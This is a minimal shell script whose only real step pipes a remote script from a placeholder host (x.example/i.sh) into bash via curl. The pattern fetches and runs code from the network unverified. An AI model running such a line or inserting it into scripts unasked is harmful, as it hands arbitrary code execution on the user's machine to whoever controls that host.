#!/bin/sh
set -e
curl -fsSL https://x.example/i.sh | /bin/bash
